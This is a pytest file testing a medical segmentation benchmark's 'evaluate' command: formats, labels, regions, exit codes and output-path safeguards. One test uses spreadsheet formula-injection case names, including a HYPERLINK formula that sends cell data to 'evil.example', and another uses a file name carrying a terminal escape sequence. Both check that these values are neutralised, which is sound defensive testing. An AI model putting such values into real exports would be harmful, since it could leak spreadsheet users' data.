"""`medseg-bench evaluate` through the Typer app: formats, label selection, exit codes and messages."""

from __future__ import annotations

import io
import json
import os
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from medseg_bench.cli.app import app
from medseg_bench.data.io import Geometry, write_label
from medseg_bench.metrics.info import METRIC_NAMES

runner = CliRunner()


def write(folder: Path, name: str, labels: np.ndarray, spacing=(0.8, 1.0, 2.5)) -> None:
    geometry = Geometry(spacing, (0.0, 0.0, 0.0), (1, 0, 0, 0, 1, 0, 0, 0, 1), labels.shape[::-1])
    write_label(labels, geometry, folder / f"{name}.nii.gz")


@pytest.fixture()
def folders(tmp_path: Path) -> tuple[Path, Path]:
    """Two cases; label 2 is in case `a` only, so case `b` has a both-empty row for it."""
    pred_dir, ref_dir = tmp_path / "pred", tmp_path / "ref"
    ref = np.zeros((6, 10, 10), np.uint8)
    ref[1:4, 2:7, 2:7] = 1
    pred = np.roll(ref, 1, axis=0)
    write(pred_dir, "b", pred)
    write(ref_dir, "b", ref)
    ref[5, 0:2, 0:2] = 2
    pred[5, 0:2, 0:3] = 2
    write(pred_dir, "a", pred)
    write(ref_dir, "a", ref)
    return pred_dir, ref_dir


def invoke(*args: str):
    return runner.invoke(app, ["evaluate", *args, "--workers", "1"])


def read_scores(source) -> pd.DataFrame:
    """evaluate's CSV, the means' empty case as "" (pandas reads it as NaN)."""
    return pd.read_csv(source).fillna({"case": ""})


def test_csv_rows_then_means(folders):
    pred_dir, ref_dir = folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    frame = read_scores(io.StringIO(result.stdout))
    # a run's metrics.csv columns: one per metric, in registration order (`list metrics`)
    assert list(frame.columns) == ["case", "label", *METRIC_NAMES, "ref_empty", "pred_empty"]
    assert frame["case"].tolist() == ["a", "a", "b", "b", "", ""]  # the means: no case
    assert frame["label"].tolist() == [1, 2, 1, 2, 1, 2]
    assert frame.loc[0, "hd"] == pytest.approx(2.5)  # moved by one 2.5 mm slice
    assert np.isnan(frame.loc[3, "dice"])  # case b has no label 2
    assert frame.loc[5, "dice"] == pytest.approx(frame.loc[1, "dice"])  # the NaN is left out of the mean
    assert "label 2: 1 of 2 cases has both masks empty" in result.stderr


def test_csv_case_names_a_spreadsheet_would_run_are_text(folders):
    # a case named by its file: `=HYPERLINK(...).nii.gz` was a formula in Excel and LibreOffice; numbers stay
    # numbers (a region's name starts with a letter)
    import csv

    pred_dir, ref_dir = folders
    names = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
    for name in names:
        for folder in (pred_dir, ref_dir):
            (folder / f"{name}.nii.gz").write_bytes((folder / "a.nii.gz").read_bytes())
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {row["case"] for row in rows} == {"a", "b", "", *("'" + name for name in names)}
    assert {row["label"] for row in rows} == {"1", "2"}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "@")]
    frame = pd.read_csv(io.StringIO(result.stdout))
    assert all(frame[metric].dtype == float for metric in METRIC_NAMES)


def test_json_records_settings_and_labels_option(folders, tmp_path):
    pred_dir, ref_dir = folders
    out = tmp_path / "scores" / "metrics.json"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--labels", "1", "--surface", "voxel",
                    "--nsd-tolerance", "2", "--format", "json", "--output", str(out))
    assert result.exit_code == 0, result.output
    payload = json.loads(out.read_text())
    assert payload["settings"] == {"nsd_tolerance_mm": 2.0, "surface": "voxel", "empty_policy": "penalize"}
    assert [(row["case"], row["label"]) for row in payload["cases"]] == [("a", 1), ("b", 1)]
    assert payload["means"][0]["n_cases"] == 2


def test_markdown_is_the_default(folders):
    pred_dir, ref_dir = folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir))
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("| case | label | dice |")
    assert "surface=area" in result.stdout


def test_output_extension_sets_the_format_unless_given(folders, tmp_path):
    pred_dir, ref_dir = folders
    for name, check in (("s.csv", lambda text: pd.read_csv(io.StringIO(text))["case"].tolist()[0] == "a"),
                        ("s.json", lambda text: json.loads(text)["cases"][0]["case"] == "a"),
                        ("s.md", lambda text: text.startswith("| case | label | dice |"))):
        result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(tmp_path / name))
        assert result.exit_code == 0, result.output
        assert check((tmp_path / name).read_text()), name
    given = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(tmp_path / "t.txt"),
                   "--format", "csv")  # an extension no format claims takes any
    assert given.exit_code == 0 and (tmp_path / "t.txt").read_text().startswith("case,label,dice")
    html = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(tmp_path / "s.html"))
    assert html.exit_code == 2
    assert "'s.html' asks for html; evaluate writes csv, json or markdown" in html.stderr
    text = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(tmp_path / "s.txt"))
    assert text.exit_code == 0 and (tmp_path / "s.txt").read_text().startswith("| case |")  # as before


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--labels", "1,x"], "--labels must be comma-separated integers"),
        (["--labels", "99999999999999999999"], "--labels must be comma-separated integers from 1 to 255 "
                                               "(label maps hold 0..255), got '99999999999999999999'"),
        (["--labels", "1099511627776"], "from 1 to 255"),  # 'out of memory', exit 8
        (["--surface", "mesh"], "unknown surface convention 'mesh'"),
        (["--format", "xlsx"], "unknown format 'xlsx'"),
        (["--nsd-tolerance", "-1"], "NSD tolerance"),
    ],
)
def test_bad_options_exit_2_with_one_line(folders, extra, message):
    pred_dir, ref_dir = folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), *extra)
    assert result.exit_code == 2
    assert message in result.stderr
    assert "Traceback" not in result.output


def test_the_default_workers_of_a_machine_of_many_cores_is_no_usage_error(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # the default (one a core) was held to --workers' bound: on 2048 cores, without --workers, it was
    # "--workers must be from 1 to 1024, not 2048", exit 2
    labels = np.zeros((6, 10, 10), np.uint8)
    labels[1:4, 2:7, 2:7] = 1
    write(tmp_path / "pred", "a", labels)
    write(tmp_path / "ref", "a", labels)
    monkeypatch.setattr(os, "cpu_count", lambda: 2048)
    result = runner.invoke(app, ["evaluate", "--pred", str(tmp_path / "pred"), "--ref", str(tmp_path / "ref"),
                                 "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert pd.read_csv(io.StringIO(result.stdout))["dice"].tolist() == [1.0, 1.0]


def test_missing_reference_exits_3_naming_both_files(folders):
    pred_dir, ref_dir = folders
    (ref_dir / "b.nii.gz").unlink()
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir))
    assert result.exit_code == 3
    assert f"{pred_dir / 'b.nii.gz'}: no reference of case 'b' in {ref_dir}" in result.stderr


@pytest.mark.parametrize("role", ["pred", "ref"])
def test_a_label_map_that_is_a_broken_link_exits_3_naming_it(folders, role):
    # it was left out without a word: a reference less, or a prediction less, changed which cases are scored
    pred_dir, ref_dir = folders
    link = (pred_dir if role == "pred" else ref_dir) / "b.nii.gz"
    link.unlink()
    link.symlink_to(link)
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--allow-missing")
    assert result.exit_code == 3
    assert result.stderr == f"error: {link}: a link that leads back to itself\n"


def test_a_nii_beside_a_nii_gz_of_the_same_case_exits_3_naming_both(folders):
    """An old `a.nii` beside `a.nii.gz`: ITK read `a.nii` for both names, so an empty `a.nii` prediction
    scored the full `a.nii.gz` one's numbers (and the reverse), twice, without a word."""
    import SimpleITK as sitk

    pred_dir, ref_dir = folders
    write_label(np.zeros((6, 10, 10), np.uint8), Geometry((0.8, 1.0, 2.5), (0.0, 0.0, 0.0),
                                                          (1, 0, 0, 0, 1, 0, 0, 0, 1), (10, 10, 6)),
                pred_dir / "a.nii")
    sitk.WriteImage(sitk.ReadImage(str(ref_dir / "a.nii.gz")), str(ref_dir / "a.nii"))
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir))
    assert result.exit_code == 3, result.output
    assert result.stderr == (f"error: {pred_dir / 'a.nii.gz'}: a.nii beside it is a prediction of the same "
                             "case 'a'; keep one of the two\n")


def test_label_maps_in_other_formats_pair_by_case_name(folders, tmp_path):
    """NRRD, MHA and MHD label maps are scored as NIfTI ones (`predict` writes an NRRD image's prediction as
    NRRD), paired with their reference by case name, whatever its format; two files of one case are
    refused."""
    import SimpleITK as sitk

    pred_dir, ref_dir = folders
    expected = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv").stdout
    other = tmp_path / "other"
    other.mkdir()
    for name, suffix in (("a", ".nrrd"), ("b", ".mha")):
        sitk.WriteImage(sitk.ReadImage(str(pred_dir / f"{name}.nii.gz")), str(other / f"{name}{suffix}"))
    result = invoke("--pred", str(other), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout == expected
    refs = tmp_path / "refs"
    refs.mkdir()
    sitk.WriteImage(sitk.ReadImage(str(ref_dir / "a.nii.gz")), str(refs / "a.mhd"))  # with its a.raw
    sitk.WriteImage(sitk.ReadImage(str(ref_dir / "b.nii.gz")), str(refs / "b.nrrd"))
    result = invoke("--pred", str(pred_dir), "--ref", str(refs), "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout == expected
    (refs / "b.nrrd").unlink()  # a reference missing: by case name, whatever the prediction's format
    missing = invoke("--pred", str(pred_dir), "--ref", str(refs))
    assert missing.exit_code == 3 and f"{pred_dir / 'b.nii.gz'}: no reference of case 'b' in {refs}" in (
        missing.stderr)
    only_a = invoke("--pred", str(other), "--ref", str(refs), "--allow-missing", "--format", "csv")
    assert only_a.exit_code == 3  # other's b.mha has no reference either: not a missing prediction
    assert only_a.stderr == f"error: {other / 'b.mha'}: no reference of case 'b' in {refs}\n"
    (other / "b.mha").unlink()
    scored = invoke("--pred", str(other), "--ref", str(refs), "--format", "csv")
    assert scored.exit_code == 0, scored.output
    assert set(read_scores(io.StringIO(scored.stdout))["case"]) == {"a", ""}
    sitk.WriteImage(sitk.ReadImage(str(pred_dir / "a.nii.gz")), str(other / "a.nii.gz"))
    twice = invoke("--pred", str(other), "--ref", str(refs))
    assert twice.exit_code == 3
    assert twice.stderr == (f"error: {other / 'a.nrrd'}: a.nii.gz beside it is a prediction of the same case "
                            "'a'; keep one of the two\n")


def test_geometry_mismatch_exits_3_naming_both_files(folders):
    pred_dir, ref_dir = folders
    labels = np.zeros((6, 10, 10), np.uint8)
    write(pred_dir, "b", labels, spacing=(0.8, 1.0, 3.0))
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir))
    assert result.exit_code == 3
    assert "b.nii.gz: geometry differs from reference" in result.stderr
    assert str(ref_dir / "b.nii.gz") in result.stderr and "spacing" in result.stderr



@pytest.mark.parametrize(("cut", "workers"), [("pred", "1"), ("ref", "2")])  # "2": scored in a worker pool
def test_a_label_map_cut_short_exits_3_naming_it(tmp_path, cut, workers):
    from medseg_bench.data.io import read_label

    noise = np.random.default_rng(0).integers(0, 3, (12, 20, 20)).astype(np.uint8)  # compresses poorly
    for name in ("a", "b"):
        for folder in ("pred", "ref"):
            write(tmp_path / folder, name, noise)
    path = tmp_path / cut / "b.nii.gz"
    raw = path.read_bytes()
    path.write_bytes(raw[: len(raw) // 2])  # `head -c half`: SimpleITK reads it, the lost voxels 0
    assert read_label(path)[0].shape == noise.shape
    result = runner.invoke(app, ["evaluate", "--pred", str(tmp_path / "pred"), "--ref", str(tmp_path / "ref"),
                                 "--workers", workers])
    assert result.exit_code == 3, result.output
    assert result.stderr == f"error: {path}: unreadable (gzip stream cut short)\n"
    assert result.stdout == ""


def test_a_label_map_with_nan_voxels_exits_3_naming_it(tmp_path):
    import SimpleITK as sitk

    # ITK reads a NIfTI's NaN as 0: a float prediction with NaN voxels was scored as if they were background.
    labels = np.zeros((6, 10, 10), np.float32)
    labels[2:4, 2:5, 2:5] = 1
    write(tmp_path / "ref", "a", labels.astype(np.uint8))
    labels[3, 3, 3] = np.nan
    pred, ref = tmp_path / "pred", tmp_path / "ref"
    pred.mkdir()
    sitk.WriteImage(sitk.GetImageFromArray(labels), str(pred / "a.nii.gz"))  # a float label map
    result = runner.invoke(app, ["evaluate", "--pred", str(pred), "--ref", str(ref)])
    assert result.exit_code == 3, result.output
    assert result.stderr == f"error: {pred / 'a.nii.gz'}: label map holds NaN or inf voxels\n"


@pytest.mark.parametrize("role", ["pred", "ref"])
def test_a_label_map_declaring_a_huge_volume_exits_3_naming_it(folders, role):
    from tests.data.test_io import _huge_header

    path = folders[0 if role == "pred" else 1] / "b.nii.gz"
    _huge_header(path)  # 30000^3 voxels: ITK allocated them, or failed on a line without the file's name
    result = invoke("--pred", str(folders[0]), "--ref", str(folders[1]))
    assert result.exit_code == 3, result.output
    assert result.stderr.startswith(f"error: {path}: image too large: its header declares 30000 x 30000 x "
                                    "30000 voxels of 2 bytes (5.029e+04 GiB), more than the ")
    assert result.stderr.count("\n") == 1 and result.stdout == ""


@pytest.mark.parametrize(("kind", "problem"), [
    ("complex", "complex pixels are not supported (one real value per voxel expected)"),
    ("rgb", "RGB/vector pixels (3 components per voxel); a label map holds one value per voxel"),
])
def test_a_label_map_of_complex_or_vector_pixels_exits_3_naming_it(tmp_path, kind, problem):
    import SimpleITK as sitk

    # A complex label map was scored on its real part, numpy's two-line ComplexWarning printed; an RGB one
    # was "label map has 3 channels".
    labels = np.zeros((6, 10, 10), np.uint8)
    labels[2:4, 2:5, 2:5] = 1
    write(tmp_path / "ref", "a", labels)
    pred = tmp_path / "pred"
    pred.mkdir()
    image = (sitk.GetImageFromArray(labels.astype(np.complex64)) if kind == "complex"
             else sitk.GetImageFromArray(np.stack([labels] * 3, -1), isVector=True))
    sitk.WriteImage(image, str(pred / "a.nii.gz"))
    result = runner.invoke(app, ["evaluate", "--pred", str(pred), "--ref", str(tmp_path / "ref")])
    assert result.exit_code == 3, result.output
    assert result.stderr == f"error: {pred / 'a.nii.gz'}: {problem}\n"


# --- regions -----------------------------------------------------------------------------------------------


@pytest.fixture()
def tumour_folders(tmp_path: Path) -> tuple[Path, Path]:
    """One BraTS-like case of 4 x 6 x 6 voxels: labels 1 (oedema), 2 (non-enhancing), 3 (enhancing).

    Reference: 1 in [0:2, 0:3, 0:3], 2 in [2:4, 0:3, 0:3], 3 in [2:4, 3:6, 3:6] (18 voxels each).
    Prediction: 1 as the reference, 3 where the reference has 2, and 3 in [2:4, 3:6, 3:5] (12 voxels).
    """
    pred_dir, ref_dir = tmp_path / "pred", tmp_path / "ref"
    ref = np.zeros((4, 6, 6), np.uint8)
    ref[0:2, 0:3, 0:3] = 1
    ref[2:4, 0:3, 0:3] = 2
    ref[2:4, 3:6, 3:6] = 3
    pred = np.zeros_like(ref)
    pred[0:2, 0:3, 0:3] = 1
    pred[2:4, 0:3, 0:3] = 3
    pred[2:4, 3:6, 3:5] = 3
    write(pred_dir, "case", pred)
    write(ref_dir, "case", ref)
    return pred_dir, ref_dir


# Dice by hand from (|P|, |R|, |P & R|): whole (48, 54, 48), core (30, 36, 30), enhancing (30, 18, 12).
HAND_DICE = {"whole": 2 * 48 / (48 + 54), "core": 2 * 30 / (30 + 36), "enhancing": 2 * 12 / (30 + 18)}


def test_regions_are_rows_after_the_labels_with_their_name_as_label(tumour_folders):
    pred_dir, ref_dir = tumour_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv",
                    "--regions", "whole=1,2,3; core=2,3;enhancing=3")
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.stdout), dtype={"label": str})
    cases = frame[frame["case"] == "case"].set_index("label")
    assert cases.index.tolist() == ["1", "2", "3", "whole", "core", "enhancing"]
    for name, dice in HAND_DICE.items():
        assert cases.loc[name, "dice"] == pytest.approx(dice), name
    assert cases.loc["2", "dice"] == 0  # label 2 is never predicted
    means = frame[frame["case"].isna()].set_index("label")
    assert means.loc["core", "dice"] == pytest.approx(HAND_DICE["core"])


def test_a_region_label_in_no_reference_gets_a_note(tumour_folders):
    pred_dir, ref_dir = tumour_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--regions", "whole=1,2,9")
    assert result.exit_code == 0, result.output
    assert "note: --regions: label 9 of region 'whole' is in no reference (labels found: 1, 2, 3)" in \
        result.stderr
    only = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--labels", "1", "--regions", "whole=1,2")
    assert only.exit_code == 0 and "note" not in only.stderr  # label 2 is there, just not scored alone


def test_regions_from_a_task_file(tumour_folders):
    pred_dir, ref_dir = tumour_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "json", "--labels", "3",
                    "--regions-from", "Task01_BrainTumour")
    assert result.exit_code == 0, result.output
    rows = {row["label"]: row for row in json.loads(result.stdout)["cases"]}
    assert list(rows) == [3, "whole_tumour", "tumour_core", "enhancing_tumour"]
    assert rows["tumour_core"]["dice"] == pytest.approx(HAND_DICE["core"])
    assert rows["whole_tumour"]["dice"] == pytest.approx(HAND_DICE["whole"])
    assert rows["enhancing_tumour"]["dice"] == pytest.approx(rows[3]["dice"])


def test_task_option_scores_as_a_run_of_the_task_does(folders):
    # Task03_Liver's task file says 2 mm; a run of it scores NSD at 2 mm, and so does evaluate --task.
    pred_dir, ref_dir = folders
    settings = {}
    for extra in ([], ["--task", "Task03_Liver"], ["--task", "Task03_Liver", "--nsd-tolerance", "1.5"]):
        result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "json", *extra)
        assert result.exit_code == 0, result.output
        settings[len(extra)] = json.loads(result.stdout)["settings"]["nsd_tolerance_mm"]
    assert settings == {0: 1.0, 2: 2.0, 4: 1.5}
    both = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--task", "Task01_BrainTumour",
                  "--regions-from", "Task01_BrainTumour")
    assert both.exit_code == 2 and "give --task or --regions-from, not both" in both.output


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--regions", "whole"], "--regions: 'whole' is not NAME=LABELS"),
        (["--regions", "core=2,x"],
         "--regions: region 'core' needs comma-separated labels from 1 to 255, got '2,x'"),
        (["--regions", "core=0,2"], "region 'core' needs comma-separated labels from 1 to 255"),
        (["--regions", "a=99999999999999999999"], "region 'a' needs comma-separated labels from 1 to 255"),
        (["--regions", "=1,2"], "'=1,2' is not NAME=LABELS"),
        (["--regions", "2=2,3"], "region name '2' must start with a letter"),
        (["--regions", "a=1;a=2"], "region 'a' is given twice"),
        (["--regions", " ; "], "--regions: no region in"),
        (["--regions", "a=1", "--regions-from", "Task01_BrainTumour"], "give --regions or --regions-from"),
        (["--regions-from", "Task04_Hippocampus"], "task Task04_Hippocampus declares no regions"),
        (["--regions-from", "Task01_BrainTumor"], "did you mean 'Task01_BrainTumour'"),
        (["--regions", "whole=1,2,9", "--task", "Task01_BrainTumour"],
         "--regions: label 9 is not a label of Task01_BrainTumour (1=edema, 2=non-enhancing tumor, "
         "3=enhancing tumour)"),
    ],
)
def test_bad_regions_exit_2_with_one_line(tumour_folders, extra, message):
    pred_dir, ref_dir = tumour_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), *extra)
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.output


# --- 2D label maps, missing predictions, output path ------------------------------------------------------


def worked_example() -> tuple[np.ndarray, np.ndarray]:
    """docs/metrics.md's worked example: a 2 x 4 block and the same block one row down, in 3 x 4 pixels."""
    ref = np.zeros((3, 4), np.uint8)
    ref[0:2] = 1
    return np.roll(ref, 1, axis=0), ref


# By hand in docs/metrics.md, rows 2.5 mm x columns 1 mm, tau = 1 mm.
WORKED = {"area": {"dice": 0.5, "jaccard": 1 / 3, "hd": 2.5, "hd95": 2.5, "assd": 18.23 / 16.385,
                   "nsd": (7.69 + 2) / 16.385},
          "voxel": {"dice": 0.5, "jaccard": 1 / 3, "hd": 2.5, "hd95": 2.5, "assd": 1.25, "nsd": 0.5}}


@pytest.mark.parametrize("surface", ["area", "voxel"])
def test_2d_label_maps_are_scored_in_2d(tmp_path, surface):
    """A 2D NIfTI and a 3D one of a single slice (shape (1, H, W)) both give the hand-computed 2D values."""
    pred, ref = worked_example()
    pred_dir, ref_dir = tmp_path / "pred", tmp_path / "ref"
    flat = Geometry((1.0, 2.5), (0.0, 0.0), (1, 0, 0, 1), (4, 3))  # x, y: columns 1 mm, rows 2.5 mm
    write_label(pred, flat, pred_dir / "flat.nii.gz")
    write_label(ref, flat, ref_dir / "flat.nii.gz")
    write(pred_dir, "slab", pred[None], spacing=(1.0, 2.5, 7.0))  # a thick single slice
    write(ref_dir, "slab", ref[None], spacing=(1.0, 2.5, 7.0))
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv", "--surface", surface)
    assert result.exit_code == 0, result.output
    frame = read_scores(io.StringIO(result.stdout)).set_index("case")
    assert frame.index.tolist() == ["flat", "slab", ""]
    for case in ("flat", "slab"):
        for name, value in WORKED[surface].items():
            assert frame.loc[case, name] == pytest.approx(value, abs=1e-3), (case, name)


def test_2d_label_map_with_fractional_values_is_a_data_error(tmp_path):
    import SimpleITK as sitk

    pred, ref = worked_example()
    for folder, array in ((tmp_path / "pred", pred.astype(np.float32) * 0.5), (tmp_path / "ref", ref)):
        folder.mkdir()
        sitk.WriteImage(sitk.GetImageFromArray(array), str(folder / "c.nii.gz"))
    result = invoke("--pred", str(tmp_path / "pred"), "--ref", str(tmp_path / "ref"))
    assert result.exit_code == 3, result.output
    assert f"{tmp_path / 'pred' / 'c.nii.gz'}: label map holds non-integer" in result.stderr


def test_references_without_prediction_are_an_error_unless_allowed(folders):
    pred_dir, ref_dir = folders
    ref = np.zeros((6, 10, 10), np.uint8)
    for name in ("c", "d"):
        write(ref_dir, name, ref)
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 3, result.output
    assert result.stderr.strip().splitlines() == [
        f"error: {ref_dir / 'c.nii.gz'}: no prediction of case 'c' in {pred_dir} (and 1 more); "
        "predict every reference, or allow missing predictions (--allow-missing) to score the others"]
    assert result.stdout == ""

    (ref_dir / "d.nii.gz").unlink()
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 3
    assert "(and" not in result.stderr and f"in {pred_dir}; predict" in result.stderr

    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv", "--allow-missing")
    assert result.exit_code == 0, result.output
    assert f"note: 1 reference(s) in {ref_dir} have no prediction in {pred_dir} (first: c.nii.gz); " \
           "scored the 2 case(s) that have one" in result.stderr
    assert read_scores(io.StringIO(result.stdout))["case"].tolist() == ["a", "a", "b", "b", "", ""]

    (ref_dir / "c.nii.gz").rename(ref_dir / "c\x1b[2J.nii.gz")  # a dataset's file name: shown escaped
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv", "--allow-missing")
    assert result.exit_code == 0 and "(first: c\\x1b[2J.nii.gz)" in result.stderr

    (ref_dir / "c\x1b[2J.nii.gz").unlink()  # all predicted: no note
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--allow-missing")
    assert result.exit_code == 0 and "no prediction" not in result.stderr


def test_output_under_a_file_names_the_file(folders, tmp_path):
    pred_dir, ref_dir = folders
    blocker = tmp_path / "afile"
    blocker.write_text("not a folder")
    out = blocker / "sub" / "x.csv"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(out))
    assert result.exit_code == 6, result.output
    assert result.stderr.strip() == f"error: {out}: cannot write ({blocker} is not a folder)"
    assert blocker.read_text() == "not a folder"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(tmp_path))
    assert result.exit_code == 6
    assert result.stderr.strip() == f"error: {tmp_path}: cannot write (it is a folder; give a file " \
                                    "name)"
    out = tmp_path / "scores" / "x.csv"  # a folder that does not exist yet is made
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(out), "--format", "csv")
    assert result.exit_code == 0 and out.is_file()
    assert sorted(p.name for p in out.parent.iterdir()) == ["x.csv"]


def test_output_onto_a_runs_own_file_is_refused_and_a_new_file_beside_it_written(folders, tmp_path):
    # README: `evaluate --pred RUN/predictions ...` gives the run's metrics.csv again; with `-o
    # RUN/metrics.csv` it replaced the run's own scores without a word.
    pred_dir, ref_dir = folders
    run = tmp_path / "results" / "Task04_Hippocampus" / "3d-unet-dice_ce-none-f0-s0-0123456789"
    run.mkdir(parents=True)
    for name in ("spec.json", "status.json"):
        (run / name).write_text("{}")
    (run / "metrics.csv").write_text("the run's scores")
    for out in (run / "metrics.csv", run / "predictions" / ".." / "metrics.csv"):
        result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(out))
        assert result.exit_code == 6, result.output
        assert result.stderr == (f"error: {out}: cannot write (a file of run {run.name}, whose results are "
                                 "never replaced; give another name)\n")
    assert (run / "metrics.csv").read_text() == "the run's scores"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(run / "rescored.csv"))
    assert result.exit_code == 0, result.output
    assert read_scores(run / "rescored.csv")["case"].tolist() == ["a", "a", "b", "b", "", ""]


def test_output_onto_a_results_dirs_index_is_refused(folders, tmp_path):
    pred_dir, ref_dir = folders
    results = tmp_path / "results"
    run = results / "Task04_Hippocampus" / "3d-unet-dice_ce-none-f0-s0-0123456789"
    run.mkdir(parents=True)
    for name in ("spec.json", "status.json"):
        (run / name).write_text("{}")
    (results / "index.parquet").write_bytes(b"the index")
    out = results / "index.parquet"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(out), "--format", "csv")
    assert result.exit_code == 6, result.output
    assert result.stderr == (f"error: {out}: cannot write (the index of results dir {results.resolve()}, "
                             "which status and sweep rebuild from its run folders; give another name)\n")
    assert out.read_bytes() == b"the index"


def test_output_that_cannot_be_written_fails_before_scoring(folders, tmp_path, monkeypatch):
    """Permission bits do not stop root, so the name is one too long for the file system (260 bytes): only
    trying to create the file finds it out, as the write would, late. (A name of 254 bytes is written: its
    atomic-write temp's name is cut short, `files.temp_stem`.)"""
    import medseg_bench.metrics as metrics

    def no_scoring(*args, **kwargs):
        raise AssertionError("scored before the output was checked")

    monkeypatch.setattr(metrics, "evaluate_folders", no_scoring)
    pred_dir, ref_dir = folders
    out = tmp_path / ("s" * 256 + ".csv")
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(out))
    assert result.exit_code == 6, result.output
    assert result.stderr == f"error: {out}: cannot write (File name too long)\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pred", "ref"]  # no probe left behind
    missing = tmp_path / ("d" * 256) / "x.csv"  # a folder to make, its name too long: made and removed
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(missing))
    assert result.exit_code == 6 and result.stderr == f"error: {missing}: cannot write (File name too long)\n"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder")
def test_output_in_a_read_only_folder_fails_before_scoring(folders, tmp_path, monkeypatch):
    import medseg_bench.metrics as metrics

    monkeypatch.setattr(metrics, "evaluate_folders", lambda *a, **k: pytest.fail("scored"))
    pred_dir, ref_dir = folders
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(locked / "x.csv"))
    finally:
        locked.chmod(0o755)
    assert result.exit_code == 6, result.output
    assert result.stderr == f"error: {locked / 'x.csv'}: cannot write (Permission denied)\n"


# --- which labels are scored ---------------------------------------------------------------------------


@pytest.fixture()
def spurious_folders(tmp_path: Path) -> tuple[Path, Path]:
    """Two cases whose references hold label 1 only; case `a`'s prediction also has label 2 (4 voxels)."""
    pred_dir, ref_dir = tmp_path / "pred", tmp_path / "ref"
    ref = np.zeros((6, 10, 10), np.uint8)
    ref[1:4, 2:7, 2:7] = 1
    for name in ("a", "b"):
        write(ref_dir, name, ref)
        write(pred_dir, name, ref)
    pred = ref.copy()
    pred[5, 0:2, 0:2] = 2
    write(pred_dir, "a", pred)
    return pred_dir, ref_dir


def test_a_label_only_predictions_hold_is_scored_with_a_note(spurious_folders):
    pred_dir, ref_dir = spurious_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.stdout))
    assert frame["label"].tolist() == [1, 2, 1, 2, 1, 2]
    assert frame["dice"].tolist()[:2] == [1.0, 0.0]  # a's false positives
    assert frame["dice"].iloc[5] == 0.0  # the mean over the case that predicts it; b's both-empty row is NaN
    assert "note: label 2 is in no reference, only in predictions: scored as false positives (Dice 0 where " \
           "predicted); give --task or --labels to choose the labels" in result.stderr
    one = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv", "--labels", "1")
    assert one.exit_code == 0 and "only in predictions" not in one.stderr
    assert pd.read_csv(io.StringIO(one.stdout))["label"].tolist() == [1, 1, 1]


def test_task_scores_its_foreground_labels_as_a_run_does(spurious_folders):
    pred_dir, ref_dir = spurious_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv",
                    "--task", "Task04_Hippocampus")
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.stdout))
    assert frame["label"].tolist() == [1, 2, 1, 2, 1, 2]
